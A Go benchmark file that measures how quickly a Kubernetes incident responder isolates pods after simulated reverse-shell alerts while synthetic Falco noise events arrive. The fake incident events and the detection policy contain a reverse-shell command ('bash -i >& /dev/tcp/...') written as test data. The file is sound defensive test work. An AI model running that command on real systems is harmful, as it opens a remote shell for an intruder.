package bench

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/dynamic"
	"k8s.io/client-go/kubernetes"

	"github.com/portcullis-dev/portcullis/runtime/v1alpha1"
	testcluster "github.com/portcullis-dev/portcullis/test/cluster"
	"github.com/portcullis-dev/portcullis/test/pki"
	"github.com/portcullis-dev/portcullis/test/programs"
)

const (
	// budgetIsolated is from an event being sent until the API server tells others of the patch that isolates its pod.
	budgetIsolated = time.Second
	// noiseRate is how many events a second arrive meanwhile about which policies are asked and nothing is done. A cluster that
	// is tuned has less than one.
	noiseRate        = 1000
	noiseConnections = 8
	// incidentEvery is the time between two incidents.
	incidentEvery = 400 * time.Millisecond
	// settleTime bounds each wait for the cluster, which is on the same machine.
	settleTime = 2 * time.Minute
)

// respondBundle isolates pods of reverse shells, and is asked about all noise as well.
const respondBundle = `apiVersion: policy.portcullis.dev/v1alpha1
kind: Bundle
name: bench
serial: 1
response:
  mode: enforce
  cooldown: 1ms
  limits: {cluster: 100000, namespace: 100000, owner: 100000, ownerPercent: 100}
  breaker: {plans: 100000}
policies: [{policy: runtime/shell}]
`

const respondPolicy = `# METADATA
# title: Reverse shells
# description: A shell whose input is a connection.
# custom:
#   severity: critical
#   match: {events: {priority: debug}}
#   remediation: Close the hole.
package portcullis.runtime.shell

respond contains {"action": action, "msg": sprintf("%s in %s", [input.event.fields["proc.cmdline"], input.event.pod.name])} if {
	some action in ["isolate", "condemn"]
	startswith(input.event.rule, "Reverse")
	startswith(object.get(input.event.fields, "proc.cmdline", ""), "bash -i")
	count(input.workload.containers) > 0
}
`

// respondObjects are the pods: those of "victims" have the incidents, those of "noise" the noise. There are twice as many victims as
// incidents, since a limit is of pods that are ready, and what replaces one here never is.
const respondObjects = `apiVersion: v1
kind: Namespace
metadata: {name: portcullis-system}
---
apiVersion: v1
kind: Namespace
metadata: {name: shop}
---
apiVersion: v1
kind: Node
metadata: {name: node-a}
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: victims, namespace: shop}
spec:
  replicas: %d
  selector: {matchLabels: {app: victims}}
  template:
    metadata: {labels: {app: victims}}
    spec:
      nodeName: node-a
      automountServiceAccountToken: false
      containers: [{name: app, image: 'ghcr.io/acme/app:1'}]
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: noise, namespace: shop}
spec:
  replicas: 10
  selector: {matchLabels: {app: noise}}
  template:
    metadata: {labels: {app: noise}}
    spec:
      nodeName: node-a
      automountServiceAccountToken: false
      containers: [{name: app, image: 'ghcr.io/acme/app:1'}]
`

// responding is a real control plane with its controllers, and the responder in front of it.
type responding struct {
	control   *testcluster.Cluster
	kube      kubernetes.Interface
	responder *programs.Responder
	client    *http.Client

	victims, noise []corev1.Pod
	// sent and failed count events of noise.
	sent, failed atomic.Int64
}

// respondRows measure what stands between an event and the isolation of its pod.
func respondRows(ctx context.Context, size Size, dir string) (rows []Row, err error) {
	r, err := newResponding(ctx, size, filepath.Join(dir, "respond"))
	if r != nil {
		defer func() { err = errors.Join(err, r.close()) }()
	}
	if err != nil {
		return nil, err
	}
	noisy, stop := context.WithCancel(ctx)
	defer stop()
	var group sync.WaitGroup
	began := time.Now()
	for n := range noiseConnections {
		group.Go(func() { r.makeNoise(noisy, n) })
	}
	times, err := r.incidents(ctx)
	took := time.Since(began)
	stop()
	group.Wait()
	if err != nil {
		return nil, err
	}
	if failed := r.failed.Load(); failed > 0 {
		return nil, fmt.Errorf("%d events of noise were not taken", failed)
	}
	row := durationRow("event to isolating patch while 1,000 events/s arrive, p99", percentile(times, 99), budgetIsolated)
	row.Note = fmt.Sprintf("half of them take %s; %d incidents at a real API server with controllers, all on this machine; %.0f events/s of noise, judged one by one",
		percentile(times, 50).Round(time.Millisecond), len(times), float64(r.sent.Load())/took.Seconds())
	return []Row{row}, nil
}

func newResponding(ctx context.Context, size Size, dir string) (*responding, error) {
	r := &responding{}
	for name, content := range map[string]string{"bundle.yaml": respondBundle, "shell/policy.rego": respondPolicy} {
		file := filepath.Join(dir, "bundle", name)
		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
			return nil, fmt.Errorf("making a folder: %w", err)
		}
		if err := os.WriteFile(file, []byte(content), 0o600); err != nil {
			return nil, fmt.Errorf("writing the bundle: %w", err)
		}
	}
	if err := programs.Build(ctx, dir, "portcullis-responder"); err != nil {
		return nil, err
	}
	var err error
	if r.control, err = testcluster.Start(ctx, testcluster.Options{Dir: filepath.Join(dir, "cluster")}); err != nil {
		return nil, err
	}
	if err := r.fill(ctx, size); err != nil {
		return r, err
	}
	if err := r.start(ctx, dir); err != nil {
		return r, err
	}
	return r, nil
}

func (r *responding) close() error {
	if r.responder != nil {
		r.responder.Kill()
	}
	return r.control.Stop()
}

// fill makes the pods, and reports of each what a kubelet would.
func (r *responding) fill(ctx context.Context, size Size) error {
	config, err := r.control.Config(testcluster.Admin)
	if err != nil {
		return err
	}
	if r.kube, err = kubernetes.NewForConfig(config); err != nil {
		return err
	}
	creator, err := testcluster.NewCreator(config)
	if err != nil {
		return err
	}
	for _, objects := range [][]byte{v1alpha1.Manifest, fmt.Appendf(nil, respondObjects, 2*size.Incidents+1)} {
		if _, err := creator.Create(ctx, objects, metav1.CreateOptions{}); err != nil {
			return err
		}
	}
	api, err := dynamic.NewForConfig(config)
	if err != nil {
		return err
	}
	if err := until(ctx, func() error {
		_, err := api.Resource(v1alpha1.Quarantines).List(ctx, metav1.ListOptions{Limit: 1})
		return err
	}); err != nil {
		return fmt.Errorf("waiting for the custom resources: %w", err)
	}
	if r.victims, err = r.pods(ctx, "victims", 2*size.Incidents+1); err != nil {
		return err
	}
	r.victims = r.victims[:size.Incidents]
	r.noise, err = r.pods(ctx, "noise", 10)
	return err
}

// pods waits until there are so many of an app, and has them run.
func (r *responding) pods(ctx context.Context, app string, count int) ([]corev1.Pod, error) {
	var all []corev1.Pod
	err := until(ctx, func() error {
		list, err := r.kube.CoreV1().Pods("shop").List(ctx, metav1.ListOptions{LabelSelector: "app=" + app})
		if err != nil {
			return err
		}
		if all = list.Items; len(all) < count {
			return fmt.Errorf("there are %d of %d", len(all), count)
		}
		return nil
	})
	if err != nil {
		return nil, fmt.Errorf("waiting for the pods of %s: %w", app, err)
	}
	for n := range all {
		pod := &all[n]
		pod.Status.Phase = corev1.PodRunning
		pod.Status.Conditions = append(pod.Status.Conditions, corev1.PodCondition{Type: corev1.PodReady, Status: corev1.ConditionTrue})
		pod.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: "app", ContainerID: "containerd://" + containerID(pod)}}
		if _, err := r.kube.CoreV1().Pods("shop").UpdateStatus(ctx, pod, metav1.UpdateOptions{}); err != nil {
			return nil, err
		}
	}
	return all, nil
}

func containerID(pod *corev1.Pod) string {
	return strings.Repeat(strings.ReplaceAll(string(pod.UID), "-", ""), 2)
}

// start starts the responder, and makes a client with the certificate of the node.
func (r *responding) start(ctx context.Context, dir string) error {
	senders, err := pki.NewAuthority(dir, "senders")
	if err != nil {
		return err
	}
	node, err := senders.Issue("system:node:node-a")
	if err != nil {
		return err
	}
	certificate, err := tls.LoadX509KeyPair(node.CertFile, node.KeyFile)
	if err != nil {
		return fmt.Errorf("reading a certificate: %w", err)
	}
	roots, err := readRoots(r.control.CAFile)
	if err != nil {
		return err
	}
	r.client = &http.Client{Transport: &http.Transport{
		TLSClientConfig: &tls.Config{RootCAs: roots, Certificates: []tls.Certificate{certificate}}, MaxIdleConnsPerHost: 2 * noiseConnections,
	}}
	options := programs.ResponderOptions{
		Dir: dir, Name: "responder", Bundle: filepath.Join(dir, "bundle"), ClientCAFile: senders.File, Namespace: "portcullis-system",
		Spool: filepath.Join(dir, "events"), Args: []string{"--cni=calico", "--log-level=warn"}, LogFile: filepath.Join(dir, "responder.log"),
	}
	if options.Serving, err = r.control.ServingCertificate("responder"); err != nil {
		return err
	}
	if options.Kubeconfig, err = r.control.Kubeconfig(testcluster.Admin); err != nil {
		return err
	}
	for _, address := range []*string{&options.Listen, &options.Probes} {
		if *address, err = freeAddress(); err != nil {
			return err
		}
	}
	r.responder, err = programs.StartResponder(ctx, options)
	return err
}

// makeNoise sends events of one connection, evenly, until the context ends. Each is another one.
func (r *responding) makeNoise(ctx context.Context, connection int) {
	began := time.Now()
	for n := 0; ; n++ {
		due := began.Add(time.Duration(n) * noiseConnections * time.Second / noiseRate) // what is late is made up for
		select {
		case <-ctx.Done():
			return
		case <-time.After(time.Until(due)):
		}
		event := eventOf(&r.noise[n%len(r.noise)], "Read a file", "Warning", fmt.Sprintf("cat /proc/%d/%d", connection, n))
		status, _, err := event.Post(ctx, r.client, r.responder.EventsURL())
		switch {
		case ctx.Err() != nil:
		case err != nil || status != http.StatusOK:
			r.failed.Add(1)
		default:
			r.sent.Add(1)
		}
	}
}

// eventOf is an event about a pod.
func eventOf(pod *corev1.Pod, rule, priority, command string) programs.FalcoEvent {
	now := time.Now().UTC()
	return programs.FalcoEvent{
		Hostname: "falco-1", Output: now.Format(time.TimeOnly) + ": " + priority + " " + rule + " (command=" + command + " container=" + containerID(pod)[:12] + ")",
		Priority: priority, Rule: rule, Source: "syscall", Tags: []string{"container", "mitre_execution"}, Time: now,
		Fields: map[string]any{
			"k8s.pod.uid": string(pod.UID), "k8s.ns.name": pod.Namespace, "k8s.pod.name": pod.Name, "container.id": containerID(pod)[:12],
			"proc.cmdline": command, "evt.time": now.UnixNano(), "user.name": "root", "container.image.repository": "ghcr.io/acme/app",
		},
	}
}

// incidents sends one after the other, and says how long each took until somebody who watches saw its pod isolated.
func (r *responding) incidents(ctx context.Context) ([]time.Duration, error) {
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	isolated, err := r.watch(ctx)
	if err != nil {
		return nil, err
	}
	ticker := time.NewTicker(incidentEvery)
	defer ticker.Stop()
	var times []time.Duration
	for n := range r.victims {
		<-ticker.C
		pod := &r.victims[n]
		began := time.Now()
		status, text, err := eventOf(pod, "Reverse shell", "Critical", fmt.Sprint("bash -i >& /dev/tcp/192.0.2.1/", n)).Post(ctx, r.client, r.responder.EventsURL())
		if err != nil || status != http.StatusOK {
			return nil, fmt.Errorf("an event was answered with %d %s: %w", status, text, err)
		}
		for uid, at := "", (time.Time{}); uid != string(pod.UID); {
			select {
			case seen := <-isolated:
				uid, at = seen.uid, seen.at
			case <-time.After(settleTime):
				return nil, fmt.Errorf("pod %s, the %d. of %d, was not isolated in %s: see its Quarantine", pod.Name, n+1, len(r.victims), settleTime)
			}
			if uid == string(pod.UID) {
				times = append(times, at.Sub(began))
			}
		}
	}
	return times, nil
}

// seenIsolated is a pod that was seen with the label of a quarantine for the first time.
type seenIsolated struct {
	uid string
	at  time.Time
}

// watch tells of pods as they are isolated.
func (r *responding) watch(ctx context.Context) (<-chan seenIsolated, error) {
	watcher, err := r.kube.CoreV1().Pods("shop").Watch(ctx, metav1.ListOptions{LabelSelector: v1alpha1.QuarantineLabel})
	if err != nil {
		return nil, fmt.Errorf("watching pods: %w", err)
	}
	into := make(chan seenIsolated, len(r.victims))
	go func() {
		defer watcher.Stop()
		known := map[string]bool{}
		for event := range watcher.ResultChan() {
			pod, ok := event.Object.(*corev1.Pod)
			if !ok || known[string(pod.UID)] {
				continue
			}
			known[string(pod.UID)] = true
			into <- seenIsolated{string(pod.UID), time.Now()}
		}
	}()
	return into, nil
}

// until waits until a condition holds.
func until(ctx context.Context, condition func() error) error {
	ctx, cancel := context.WithTimeout(ctx, settleTime)
	defer cancel()
	ticker := time.NewTicker(50 * time.Millisecond)
	defer ticker.Stop()
	for {
		missing := condition()
		if missing == nil {
			return nil
		}
		select {
		case <-ctx.Done():
			return missing
		case <-ticker.C:
		}
	}
}
